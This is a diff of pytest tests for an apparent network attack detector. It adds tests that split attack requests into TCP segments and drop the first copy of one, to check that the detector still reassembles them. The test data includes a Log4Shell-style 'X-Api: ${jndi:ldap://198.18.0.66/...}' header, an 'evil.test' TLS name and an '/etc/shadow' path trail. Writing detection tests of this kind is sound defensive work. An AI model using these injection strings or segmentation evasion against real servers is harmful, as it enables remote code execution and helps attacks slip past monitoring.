@@ -5,6 +5,7 @@ import subprocess
 
 import pytest
 
+import capture as c
 from lab import Lab
 
 SERVER = """
@@ -12,14 +13,16 @@ import socket, sys
 # One answer to each connection or datagram, after the port was said; what comes then is read.
 kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
 family = socket.AF_INET6 if ":" in address else socket.AF_INET
-s = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
+s = socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
 s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind((address, port))
-if kind == "tcp":
+if kind == "deferred":  # as Apache listens: a connection is one when its first bytes are there
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_DEFER_ACCEPT, 5)
+if kind != "udp":
     s.listen(16)
 print("ready", s.getsockname()[1], flush=True)
 while True:
-    if kind == "tcp":
+    if kind != "udp":
         c, _ = s.accept()
         c.recv(8192)
         c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
@@ -97,6 +100,69 @@ def test_a_later_request_of_a_connection_is_looked_at_too(shared):
               "s.recv(10)\n")
     lab.attack("python3", "-c", script, lab.host, port)
     assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "/etc/shadow"
+
+
+PIECES = """
+import socket, sys
+# Says each of the texts, in hex, as a segment of its own, at once, and reads the answer.
+s = socket.socket()
+s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+s.settimeout(10)
+s.connect((sys.argv[1], int(sys.argv[2])))
+for text in sys.argv[3:]:
+    s.sendall(bytes.fromhex(text))
+s.recv(100)
+"""
+
+
+def in_pieces(lab, port, *pieces, lose=None):
+    """Pieces of bytes as segments; of one of them the host loses the first copy, so that it comes again behind what follows it."""
+    if lose is not None:
+        data = pieces[lose]
+        lab.on_host("nft", "-f", "-", check=True, input=f"table inet lose {{ chain in {{ type filter hook prerouting priority raw; tcp dport {port} "
+                    f"@th,256,16 0x{data[:2].hex()} quota until {len(data) + 60} bytes counter drop; }}; }}")
+    try:
+        lab.attack("python3", "-S", "-E", "-c", PIECES, lab.host, port, *[p.hex() for p in pieces])
+        assert lose is None or "counter packets 1 " in lab.on_host("nft", "list", "table", "inet", "lose", check=True).stdout
+    finally:
+        lab.on_host("nft", "delete", "table", "inet", "lose")
+
+
+def asks_with(what, method=b"GET"):
+    """A request with an attack in its head, in three pieces."""
+    return method + b" /index HTTP/1.1\r\nHost: x\r\n", b"X-Api: ${jndi:ldap", b"://198.18.0.66/" + what + b"}\r\n\r\n"
+
+
+def test_a_request_whose_first_segment_comes_last_is_read(shared):
+    lab = shared
+    port = serve(lab, "tcp", "0.0.0.0")
+    in_pieces(lab, port, *asks_with(b"first"), lose=0)
+    f = wait_finding(lab, rule="web-attack", destination_port=port)
+    assert f["trail"] == "${jndi:" and f["process"] == "python3" and f["subject"] == lab.attacker
+
+
+def test_a_later_request_whose_first_segment_comes_last_is_read(shared):
+    lab = shared
+    port = serve(lab, "tcp", "0.0.0.0")
+    in_pieces(lab, port, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", *asks_with(b"later", b"PUT"), lose=1)
+    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "${jndi:"
+
+
+def test_a_hello_whose_first_segment_comes_second_is_read(listed):
+    lab, cert, key, _ = listed
+    p = lab.spawn("openssl", "s_server", "-accept", f"{lab.host}:0", "-cert", cert, "-key", key, stdin=subprocess.PIPE)
+    port = int(next(line for line in p.stdout if line.startswith("ACCEPT")).rsplit(":", 1)[1])
+    hello = c.hello("late.evil.test", pad=200)
+    in_pieces(lab, port, hello[:100], hello[100:], lose=0)
+    assert wait_finding(lab, rule="trail-sni", subject=lab.attacker)["trail"] == "evil.test"
+
+
+def test_a_request_in_pieces_to_a_listener_that_waits_for_data_is_read(shared):
+    lab = shared
+    port = serve(lab, "deferred", "0.0.0.0")
+    in_pieces(lab, port, *asks_with(b"deferred"))
+    f = wait_finding(lab, rule="web-attack", destination_port=port)
+    assert f["trail"] == "${jndi:" and f["process"] == "python3"
 
 
 def test_an_attack_in_a_header_is_found(shared):
